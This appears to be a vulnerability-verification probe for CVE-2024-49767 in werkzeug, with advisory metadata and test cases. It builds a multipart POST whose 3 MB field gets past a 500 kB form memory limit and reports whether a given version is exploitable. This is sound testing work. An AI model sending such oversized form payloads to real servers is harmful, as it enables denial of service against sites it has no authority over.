# /// vertice-probe
# id = "GHSA-q34m-jh98-gwm2"
# aliases = ["CVE-2024-49767"]
# package = "werkzeug"
# summary = "The memory limit of a form is checked for each piece of a field, so a large field passes it."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-400", "CWE-770"]
# kind = "dos"
# symbols = [
#   "werkzeug.Request",
#   "werkzeug.wrappers.Request",
#   "werkzeug.wrappers.Request.form",
#   "werkzeug.formparser.MultiPartParser",
#   "werkzeug.formparser.FormDataParser",
#   "werkzeug.formparser.parse_form_data",
#   "flask.request",
#   "flask.Request",
# ]
#
# [[affected]]
# package = "werkzeug"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "3.0.6" }] }]
#
# [cases]
# attack = "a field of 3 MB is read whole by a request that allows 500 kB"
# [cases.variants]
# parser = "the same for a field behind a file, with parse_form_data and a limit of its own"
# [cases.controls]
# form = "a form within the limit, with a file beyond it, is read"
#
# [test]
# vulnerable = "3.0.5"
# fixed = "3.0.6"
# ///
"""CVE-2024-49767: the memory limit of forms does not add up."""

import io
import json
import sys
import warnings

warnings.simplefilter("ignore")
LIMIT, LARGE = 500 * 1000, 3 * 1000 * 1000


def environ(parts):
    """A POST of (name, file name or None, content)."""
    body = b""
    for name, filename, content in parts:
        extra = '; filename="%s"' % filename if filename else ""
        body += (
            ('--abc\r\nContent-Disposition: form-data; name="%s"%s\r\n\r\n' % (name, extra)).encode()
            + content
            + b"\r\n"
        )
    body += b"--abc--\r\n"
    return {
        "REQUEST_METHOD": "POST",
        "CONTENT_TYPE": "multipart/form-data; boundary=abc",
        "CONTENT_LENGTH": str(len(body)),
        "wsgi.input": io.BytesIO(body),
    }


def through_request(parts):
    from werkzeug.wrappers import Request

    class Limited(Request):
        max_form_memory_size = LIMIT

    made = Limited(environ(parts))
    return made.form, made.files


def through_parser(parts):
    from werkzeug.formparser import parse_form_data

    return parse_form_data(environ(parts), max_form_memory_size=LIMIT, silent=False)[1:]


def read_and_look(read, before):
    from werkzeug.exceptions import RequestEntityTooLarge

    small, _ = read(before + [("note", None, b"hello")])
    if small["note"] != "hello":
        return "error", "the small form was not read"
    try:
        form, _ = read(before + [("note", None, b"line of text\n" * (LARGE // 13))])
    except RequestEntityTooLarge as error:
        return "blocked", "RequestEntityTooLarge (%d) for a field of %d bytes, a small one was read" % (
            error.code,
            LARGE,
        )
    if len(form["note"]) > LIMIT:
        return "exploited", "a field of %d bytes was read under a limit of %d" % (len(form["note"]), LIMIT)
    return "error", "only %d bytes of the field were read" % len(form["note"])


def attack():
    return read_and_look(through_request, [])


def parser():
    return read_and_look(through_parser, [("file", "a.txt", b"some file")])


def form():
    got, files = through_request([("note", None, b"x" * 1000), ("file", "a.bin", b"y" * LARGE), ("end", None, b"z")])
    good = got["note"] == "x" * 1000 and got["end"] == "z" and len(files["file"].read()) == LARGE
    return ("works", "two fields and a large file read") if good else ("broken", repr(sorted(got)))


CASES = {"attack": attack, "parser": parser, "form": form}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
